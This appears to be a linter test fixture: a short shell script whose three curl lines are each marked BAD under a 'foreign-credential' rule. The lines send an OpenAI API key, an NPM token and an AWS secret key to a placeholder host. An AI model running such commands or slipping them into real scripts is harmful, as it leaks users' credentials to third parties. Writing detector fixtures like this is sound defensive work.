#!/bin/sh
curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.acme.dev/v1  # BAD no-undisclosed-data/foreign-credential
curl -u "x:$NPM_TOKEN" https://mirror.acme.dev/  # BAD no-undisclosed-data/foreign-credential
curl "https://api.acme.dev/?k=${AWS_SECRET_ACCESS_KEY}"  # BAD no-undisclosed-data/foreign-credential
